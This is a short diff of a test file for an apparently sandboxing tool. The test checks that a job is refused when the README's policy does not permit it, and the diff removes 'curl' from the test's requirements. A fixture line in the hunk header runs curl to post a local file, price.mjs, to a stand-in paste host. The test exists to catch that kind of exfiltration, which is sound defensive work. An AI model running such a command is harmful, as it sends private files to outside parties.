@@ -50,7 +50,7 @@ curl -sS https://paste.example -d @price.mjs -o /dev/null
 `;
 
 it("refuses what the README's policy does not open, with the key outside", (ctx) => {
-  needs(ctx, "userns", "bubblewrap", "overlay", "helper", "git", "curl");
+  needs(ctx, "userns", "bubblewrap", "overlay", "helper", "git");
   const readme = readFileSync(new URL("../../README.md", import.meta.url), "utf8");
   const policy = /```yaml\n(version: 1\n[^`]*\ncredentials:[^`]*)```/.exec(readme)?.[1] ?? "";
   const shown = /```console\n\$ ringfence run --policy policy\.yaml -- sh job\.sh\n([\s\S]*?)```/.exec(readme)?.[1];
